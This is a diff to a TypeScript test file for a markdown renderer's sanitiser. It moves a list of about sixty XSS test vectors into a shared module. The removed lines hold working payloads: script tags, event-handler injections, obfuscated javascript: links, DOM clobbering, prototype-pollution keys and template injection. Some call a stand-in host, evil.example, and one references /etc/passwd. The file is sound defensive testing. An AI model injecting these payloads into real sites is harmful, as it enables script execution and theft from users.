@@ -3,6 +3,7 @@ import { expect, test } from 'vitest'
 import { render } from '#lib/markdown/render.ts'
 import type { Rendered } from '#lib/markdown/rendered.ts'
 import { elements } from '#lib/markdown/walk.ts'
+import { xssVectors } from '#lib/testing/xss-vectors.ts'
 
 /** Written without looking at our schema: what a browser would act on, by its own rules for addresses. */
 function dangers({ tree }: Rendered): string[] {
@@ -25,73 +26,7 @@ function badAddress(href: string): string[] {
 
 const attempt = (source: string) => dangers(render({ source, headingBase: 2, prefix: 'md-' }))
 
-const vectors = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example></sCrIpT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x" onerror="alert(1)" />',
-  'text <b onclick=alert(1)>bold</b>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>">',
-  '<details open ontoggle=alert(1)>',
-  '<style>@import "//evil.example";</style>',
-  '<base href="//evil.example/">',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<form action="//evil.example"><button>Sign in</button></form>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<div id="md-x" name="cookie">clobber</div>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](<javascript:alert(1)>)',
-  '[x](&#106;avascript:alert(1))',
-  '[x](&#x6A&#x61&#x76&#x61script:alert(1))',
-  '[x](java&Tab;script:alert(1))',
-  '[x](java&NewLine;script:alert(1))',
-  '[x](&#1;javascript:alert(1))',
-  '[x](\u0001javascript:alert(1))',
-  '[x](%6Aavascript:alert(1))',
-  '[x](javascript&colon;alert(1))',
-  '[x](\\javascript:alert(1))',
-  '[x](vbscript:msgbox(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](blob:https://firebreak.example/1)',
-  '[x](file:///etc/passwd)',
-  '[x](view-source:javascript:alert(1))',
-  '<javascript:alert(1)>',
-  '<data:text/html,x>',
-  '![x](javascript:alert(1))',
-  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
-  '![x](https://evil.example/pixel.gif)',
-  '![x"onerror="alert(1)](y)',
-  '[x]: javascript:alert(1)\n\n[x] [y][x] ![x]',
-  '[x][y]\n\n[y]: <java\tscript:alert(1)> "t"',
-  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))',
-  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
-  '[^__proto__]\n\n[^__proto__]: x',
-  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
-  '```" onmouseover="alert(1)\ncode\n```',
-  '``` js" style="position:fixed\ncode\n```',
-  '```language-x onclick=alert(1)\ncode\n```',
-  '# <img src=x onerror=alert(1)>',
-  '# constructor\n\n# __proto__\n\n# cookie\n\n# location',
-  '| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |',
-  '- [x] <input onfocus=alert(1) autofocus>',
-  '<a\u00a0href="javascript:alert(1)">x</a>',
-  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
-  'https://a.example/"onmouseover=alert(1)',
-  '{{constructor.constructor("alert(1)")()}} {alert(1)} <Callout>{process.exit()}</Callout>',
-]
-
-test.each(vectors)('%j is not executable', (source) => {
+test.each(xssVectors)('%j is not executable', (source) => {
   expect(attempt(source)).toEqual([])
 })
 
